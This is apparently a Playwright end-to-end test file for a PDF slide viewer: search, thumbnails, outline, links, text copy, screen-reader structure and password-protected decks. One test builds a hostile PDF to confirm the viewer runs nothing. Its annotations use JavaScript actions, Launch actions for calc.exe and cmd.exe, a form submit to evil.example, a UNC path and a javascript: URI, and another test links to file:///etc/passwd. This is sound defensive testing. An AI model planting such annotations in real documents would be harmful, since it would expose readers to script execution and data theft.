import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { NodeCompiler } from '@myriaddreamin/typst-ts-node-compiler';
import { root } from '../../tools/process.mjs';
import { makePdf } from '../fixtures/pdf.ts';
import { protectedBy } from '../fixtures/protectedPdf.ts';
import { seriousFaults } from './axe.ts';
import { type Message, Pages } from './pages.ts';
import { Viewer, waitUntil } from './viewer.ts';

const linked = NodeCompiler.create({ workspace: join(root, 'course') }).pdf({
  mainFileContent: readFileSync(fileURLToPath(import.meta.resolve('../fixtures/links.typ')), 'utf8'),
});
let pages: Pages;
let viewer: Viewer;

before(async () => {
  pages = await Pages.start(join(root, 'dist', 'webview'));
});
after(() => pages?.stop());
beforeEach(async () => {
  viewer = await Viewer.open(pages);
});
afterEach(() => viewer.close());

/** A piece of the text layer. */
const piece = (text: string) => viewer.page.locator('.textLayer [role=presentation]', { hasText: text }).first();
const button = (name: string) => viewer.page.getByRole('button', { name, exact: true });

describe('finding in the slide viewer', () => {
  const field = () => viewer.page.getByRole('textbox', { name: 'Find' });
  const count = () => viewer.page.locator('.mlops-lab-find-count');
  const says = (text: string) =>
    waitUntil(async () => ((await count().textContent()) ?? '').startsWith(text), `the count “${text}”`);
  const current = () => viewer.page.locator('.mlops-lab-find-mark.current');

  async function find(words: string): Promise<void> {
    await viewer.press('Control+f');
    await field().waitFor();
    await field().fill(words);
  }

  it('counts and marks what it finds, goes on by keys, and round the deck with a word', async () => {
    await viewer.give(linked);
    await find('drift');
    await says('1 of 7');
    await viewer.press('Enter', 'Enter');
    await says('3 of 7');
    await viewer.at('1');
    await viewer.press('F3', 'F3', 'F3', 'F3');
    await says('7 of 7');
    await viewer.press('F3');
    await says('1 of 7');
    await viewer.page.getByText('here is the first again').waitFor();
    await viewer.press('Shift+F3');
    await says('7 of 7');
    await button('Match Case').click();
    await says('1 of 4');
  });

  it('puts a mark right over the word, and brings it into view at any zoom', async () => {
    await viewer.give(linked);
    await find('monitors');
    await says('1 of 1');
    const word = piece('monitors');
    const lies = async () => {
      const [mark, line] = await Promise.all([current().boundingBox(), word.boundingBox()]);
      const middles = mark && line && Math.abs(mark.y + mark.height / 2 - line.y - line.height / 2);
      return middles! < line!.height / 4 && mark!.x > line!.x && mark!.x + mark!.width < line!.x + line!.width;
    };
    await waitUntil(async () => (await current().count()) > 0 && (await lies()), 'the mark over the word');
    await viewer.page.keyboard.press('Escape');
    await waitUntil(async () => (await current().count()) === 0);
    for (let press = 0; press < 6; press++) await viewer.press('+');
    await viewer.press('Home');
    await find('monitors');
    await says('1 of 1');
    await waitUntil(async () => (await current().count()) > 0 && (await lies()), 'the mark over the word, enlarged');
    const room = (await viewer.stage.boundingBox())!;
    const mark = (await current().boundingBox())!;
    assert.ok(mark.y >= room.y && mark.y + mark.height <= room.y + room.height, 'in view');
    assert.ok(mark.x >= room.x && mark.x + mark.width <= room.x + room.width, 'in view across');
  });

  it('finds words that a line split, keeps to whole words, and says what it does not find', async () => {
    await viewer.give(linked);
    await find('overfitting');
    await says('1 of 1');
    await waitUntil(async () => (await current().count()) === 2);
    await field().fill('serv');
    await says('2 of 2');
    await viewer.press('Alt+w');
    await says('No results');
    assert.equal(await field().getAttribute('aria-invalid'), 'true');
    await viewer.give(makePdf([{ drawing: '0 0 100 100 re f' }]));
    await viewer.page.getByText('These pages are pictures').waitFor();
  });

  it('opens with the words of a link, and finds nothing before the first letter', async () => {
    await viewer.give(linked, { place: { page: 3, search: 'skew' } });
    await says('2 of 3');
    await viewer.at('1');
    await field().fill('');
    await says('');
  });
});

describe('the sidebar of the slide viewer', () => {
  const thumbnail = (page: number) => viewer.page.locator(`#mlops-lab-thumbnail-${page}`);
  const row = (title: string) => viewer.page.getByRole('treeitem', { name: title });

  it('shows a picture of each page near the window, marks the page in view, and goes there', async () => {
    await viewer.give(makePdf(Array.from({ length: 200 }, (_, index) => `Slide number ${index + 1}`)));
    await button('Sidebar').click();
    await thumbnail(2).locator('canvas').waitFor();
    assert.ok((await viewer.page.getByRole('option').count()) < 30, 'only those near the window are there');
    await thumbnail(3).click();
    await viewer.at(3);
    assert.equal(await thumbnail(3).getAttribute('aria-selected'), 'true');
    await viewer.page.getByRole('listbox', { name: 'Pages' }).focus();
    await viewer.press('ArrowDown');
    await viewer.at(4);
    await viewer.press('End');
    await viewer.at(200);
    await thumbnail(200).locator('canvas').waitFor();
    assert.ok(await thumbnail(200).isVisible());
    assert.equal(
      await viewer.page.getByRole('listbox').getAttribute('aria-activedescendant'),
      'mlops-lab-thumbnail-200',
    );
  });

  it('shows the outline as a tree that folds, marks the section in view, and goes to sections', async () => {
    await viewer.give(linked);
    await button('Sidebar').click();
    await viewer.page.getByRole('tab', { name: 'Pages' }).focus();
    await viewer.press('ArrowRight');
    await row('Preface').waitFor();
    assert.deepEqual(
      await viewer.page
        .getByRole('treeitem')
        .evaluateAll((rows) => rows.map((each) => each.getAttribute('aria-level'))),
      ['1', '2', '1', '1', '2', '1'],
    );
    await row('Monitoring').click();
    await viewer.at('2');
    await waitUntil(async () => (await row('Alerts').getAttribute('aria-current')) === 'location');
    await viewer.page.getByRole('tree').focus();
    await viewer.press('Home', 'ArrowLeft');
    await waitUntil(async () => (await viewer.page.getByRole('treeitem').count()) === 5);
    await viewer.press('ArrowRight', 'ArrowRight', 'Enter');
    await viewer.at('ii');
  });

  it('remembers its width and tab, which keys and the pointer set', async () => {
    await viewer.give(linked);
    await button('Sidebar').click();
    const splitter = viewer.page.getByRole('separator', { name: 'Width of the Sidebar' });
    await splitter.focus();
    await viewer.press('ArrowRight', 'ArrowRight');
    assert.equal(await splitter.getAttribute('aria-valuenow'), '240');
    const box = (await splitter.boundingBox())!;
    await viewer.page.mouse.move(box.x + 2, box.y + 200);
    await viewer.page.mouse.down();
    await viewer.page.mouse.move(box.x + 62, box.y + 200, { steps: 4 });
    await viewer.page.mouse.up();
    assert.equal(await splitter.getAttribute('aria-valuenow'), '300');
    await viewer.page.getByRole('tab', { name: 'Outline' }).click();
    const look = { tab: 'outline', width: 300 };
    await waitUntil(
      async () =>
        JSON.stringify(((await viewer.opened.kept()) as { sidebarLook?: object })?.sidebarLook) ===
        JSON.stringify(look),
    );
    const kept = await viewer.opened.kept();
    await viewer.page.reload();
    await viewer.opened.next(1);
    await viewer.give(linked, { remembered: kept });
    await row('Preface').waitFor();
    assert.equal(await splitter.getAttribute('aria-valuenow'), '300');
  });

  it('lies over the pages in a narrow pane, and goes once a section is chosen', async () => {
    await viewer.page.setViewportSize({ width: 420, height: 600 });
    await viewer.give(linked);
    const across = async () => (await viewer.stage.boundingBox())!.width;
    const before = await across();
    await button('Sidebar').click();
    await viewer.page.getByRole('tab', { name: 'Outline' }).click();
    assert.equal(await across(), before);
    await row('The end').click();
    await viewer.at('3');
    assert.equal(await viewer.page.getByRole('tree').count(), 0);
  });
});

describe('links in the slide viewer', () => {
  const link = (name: string) => viewer.page.getByRole('link', { name });
  type Sent = Message & { readonly href?: string; readonly reason?: string; readonly back?: boolean };

  it('go to places of the deck, and the way back leads back', async () => {
    await viewer.give(linked);
    await link('page on skew').click();
    await viewer.at('1');
    assert.equal(((await viewer.sent(({ type }) => type === 'history')) as Sent).back, true);
    await viewer.opened.receive({ type: 'travel', by: -1 });
    await viewer.at('i');
    await viewer.opened.receive({ type: 'travel', by: 1 });
    await viewer.at('1');
  });

  it('hand every other address to the editor, by keyboard too, and say in words where they lead', async () => {
    await viewer.give(linked);
    await link('the lab').focus();
    await viewer.press('Enter');
    const hrefs = async () =>
      (await viewer.opened.sent()).filter(({ type }) => type === 'openLink').map((sent) => (sent as Sent).href);
    await waitUntil(async () => (await hrefs()).length === 1);
    for (const name of ['another deck', 'a letter', 'what is refused']) await link(name).click();
    await viewer.page.getByTitle('https://www.tensorflow.org/tfx/serving').first().click();
    await waitUntil(async () => (await hrefs()).length === 5);
    assert.deepEqual(await hrefs(), [
      'mlops-lab:lab/C2_W2_Lab_1#cell-3',
      'other.pdf#page=2',
      'mailto:teacher@example.org',
      'file:///etc/passwd',
      'https://www.tensorflow.org/tfx/serving',
    ]);
    assert.match((await link('what is refused').getAttribute('title'))!, /“file:” are not opened/);
  });

  it('of a hostile deck run nothing: no script, no program, no embedded file, no form', async () => {
    const annotation = (action: string, at: number) =>
      `<< /Type /Annot /Subtype /Link /Rect [${at * 60} 100 ${at * 60 + 50} 150] /A << ${action} >> >>`;
    const annotations = [
      '/S /JavaScript /JS (app.alert\\(1\\))',
      '/S /Launch /F (calc.exe)',
      '/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>',
      '/S /GoToR /F (\\\\\\\\server\\\\share\\\\x.pdf) /D [0 /Fit]',
      '/S /SubmitForm /F (https://evil.example/collect)',
      '/S /ImportData /F (secret.fdf)',
      '/S /GoToE /T << /R /C /N (payload.pdf) >>',
      '/S /Named /N /Print',
      '/S /GoTo /D [99 /Fit]',
      '/S /URI /URI (javascript:alert\\(1\\))',
    ].map(annotation);
    const widget =
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [10 10 200 40] /AA << /Fo << /S /JavaScript /JS (app.alert\\(2\\)) >> >> >>';
    const file =
      '<< /Type /Annot /Subtype /FileAttachment /Rect [300 10 340 40] /FS << /Type /Filespec /F (x.exe) >> >>';
    const catalog = '/OpenAction << /S /JavaScript /JS (app.alert\\(3\\)) >> /AcroForm << /Fields [] >>';
    await viewer.give(makePdf([{ text: 'Hostile', annotations: [...annotations, widget, file] }], { catalog }));
    const links = viewer.page.locator('.mlops-lab-link');
    await waitUntil(async () => (await links.count()) === annotations.length);
    for (let each = 0; each < annotations.length; each++) await links.nth(each).click();
    const told = async () =>
      (await viewer.opened.sent()).filter(({ type }) => type === 'openLink' || type === 'refused') as Sent[];
    await waitUntil(async () => (await told()).length === annotations.length);
    // Addresses are left to the editor, which refuses each of these (see the table of links).
    assert.deepEqual((await told()).map(({ href }) => href).filter(Boolean), [
      'calc.exe',
      '\\\\server\\share\\x.pdf#[0,{"name":"Fit"}]',
      'javascript:alert(1)',
    ]);
    for (const { reason } of (await told()).filter(({ type }) => type === 'refused'))
      assert.match(reason!, /^This link .*\.$/);
    assert.equal(await viewer.page.locator('input:not(.mlops-lab-page-field input)').count(), 0);
  });
});

describe('selecting text in the slide viewer', () => {
  async function select(from: string, to: string): Promise<void> {
    const box = async (text: string) => (await piece(text).boundingBox())!;
    const [first, last] = [await box(from), await box(to)];
    await viewer.page.mouse.move(first.x + 1, first.y + first.height / 2);
    await viewer.page.mouse.down();
    // Over the empty margin on the way: that must not select the whole page.
    await viewer.page.mouse.move(first.x + first.width + 60, first.y + first.height + 4, { steps: 5 });
    await viewer.page.mouse.move(last.x + last.width - 1, last.y + last.height / 2, { steps: 5 });
    await viewer.page.mouse.up();
  }

  const copied = () =>
    viewer.page.evaluate(() => {
      const data = new DataTransfer();
      document.dispatchEvent(new ClipboardEvent('copy', { clipboardData: data, bubbles: true, cancelable: true }));
      return data.getData('text/plain');
    });

  it('copies words whole and the lines of a paragraph joined', async () => {
    await viewer.give(linked);
    await viewer.press('ArrowRight');
    await viewer.at('ii');
    await piece('ting, which').waitFor();
    await select('One item', 'ting, which a line splits');
    await waitUntil(async () => (await copied()) !== '');
    assert.equal(await copied(), 'One item about features,\n• and another about overfitting, which a line splits.');
  });

  it('tells the editor what is selected, and on which page', async () => {
    await viewer.give(linked);
    await viewer.press('ArrowRight');
    await piece('ting, which').waitFor();
    await viewer.opened.receive({ type: 'quote' });
    assert.equal(((await viewer.sent(({ type }) => type === 'quote')) as Message & { text: string }).text, '');
    const before = (await viewer.opened.sent()).length;
    await select('One item', 'One item');
    await viewer.opened.receive({ type: 'quote' });
    const quote = await viewer.sent(({ type }) => type === 'quote', before);
    assert.deepEqual(quote, { type: 'quote', page: 2, text: 'One item about features,' });
  });
});

describe('the structure of tagged slides', () => {
  /** What Chromium tells a screen reader of a region: each role on a line, with the text in it. */
  async function accessibleTree(region: string): Promise<string> {
    const session = await viewer.page.context().newCDPSession(viewer.page);
    await session.send('Accessibility.enable');
    let told = '';
    await waitUntil(async () => {
      const { nodes } = await session.send('Accessibility.getFullAXTree');
      const byId = new Map(nodes.map((node) => [node.nodeId, node]));
      const tell = (id: string): string => {
        const node = byId.get(id);
        const within = (node?.childIds ?? []).map(tell).join('');
        if (!node || node.ignored || node.role?.value === 'generic') return within;
        if (node.role?.value === 'StaticText') return String(node.name?.value).trim();
        return `\n${node.role?.value}: ${within}`;
      };
      told = tell(nodes.find(({ role, name }) => role?.value === 'region' && name?.value === region)?.nodeId ?? '');
      return told.includes('heading');
    }, 'the structure in the accessibility tree');
    return told;
  }

  it('gives screen readers headings, lists, tables and what pictures show', async () => {
    await viewer.give(linked);
    await viewer.press('ArrowRight');
    const page = viewer.page.locator('.mlops-lab-page[data-page="2"]');
    await page.locator('.mlops-lab-structure').waitFor({ state: 'attached' });
    const tree = await accessibleTree('Page ii (2 of 5): Words');
    assert.match(
      tree,
      /heading: Words\nlist: \nlistitem: •One item about features,\nlistitem: •and another about overfit-ting, which/,
    );
    assert.match(
      tree,
      /table: \nrowgroup: \nrow: \ncolumnheader: Name\ncolumnheader: Value\nrowgroup: \nrow: \ncell: drift\ncell: 0.1/,
    );
    assert.equal(tree.match(/One item/g)?.length, 1, 'read once');
    await viewer.press('ArrowRight');
    await viewer.page.getByRole('img', { name: 'A curve that rises' }).waitFor({ state: 'attached' });
  });
});

describe('a protected deck', () => {
  const secret = () => makePdf(['Secret slide'], { protection: protectedBy('Open sesame') });
  const password = () => viewer.page.getByLabel('Password', { exact: true });

  it('asks for its password, says when it is wrong, and opens', async () => {
    await viewer.opened.receive({ type: 'deck', name: 'exam.pdf' }, secret());
    await viewer.page.getByRole('heading', { name: 'exam.pdf is protected' }).waitFor();
    assert.deepEqual(await seriousFaults(viewer.page), []);
    await password().fill('open sesame');
    await viewer.press('Enter');
    await viewer.page.getByRole('alert').getByText('does not open the file').waitFor();
    assert.equal(await password().inputValue(), '');
    await button('Show Password').click();
    await password().fill('Open sesame');
    assert.equal(await password().getAttribute('type'), 'text');
    await button('Open').click();
    await viewer.region(1, 1).getByText('Secret slide').waitFor();
    assert.doesNotMatch(JSON.stringify([await viewer.opened.sent(), await viewer.opened.kept()]), /sesame/);
  });

  it('stays closed when the reader gives up, and asks again on request', async () => {
    await viewer.opened.receive({ type: 'deck', name: 'exam.pdf' }, secret());
    await password().waitFor();
    await viewer.press('Escape');
    await viewer.page.getByRole('alert').getByText('exam.pdf is protected by a password, and stays closed').waitFor();
    await button('Open Again').click();
    await viewer.opened.receive({ type: 'deck', name: 'exam.pdf' }, secret());
    await password().fill('Open sesame');
    await viewer.press('Enter');
    await viewer.region(1, 1).getByText('Secret slide').waitFor();
  });
});

describe('looking up in every theme', () => {
  for (const theme of ['light', 'dark', 'highContrast'] as const) {
    it(`has no serious fault in ${theme}`, async () => {
      await viewer.close();
      viewer = await Viewer.open(pages, { theme, viewport: { width: 1200, height: 760 } });
      await viewer.give(linked);
      await button('Sidebar').click();
      await viewer.press('Control+f');
      await viewer.page.getByRole('textbox', { name: 'Find' }).fill('drift');
      await viewer.page.locator('.mlops-lab-find-mark').first().waitFor();
      await viewer.page.locator('#mlops-lab-thumbnail-4 canvas').waitFor();
      assert.deepEqual(await seriousFaults(viewer.page), []);
      await viewer.screenshot(`find-${theme}`);
      await viewer.press('Escape');
      await viewer.page.getByRole('tab', { name: 'Outline' }).click();
      await viewer.page.getByRole('tree').focus();
      await viewer.press('ArrowDown');
      await viewer.page.getByRole('link', { name: 'the lab' }).hover();
      assert.deepEqual(await seriousFaults(viewer.page), []);
      await viewer.screenshot(`outline-${theme}`);
      await viewer.opened.receive({ type: 'deck', name: 'exam.pdf' }, makePdf(['x'], { protection: protectedBy('y') }));
      await viewer.page.getByLabel('Password', { exact: true }).waitFor();
      await viewer.screenshot(`password-${theme}`);
    });
  }
});
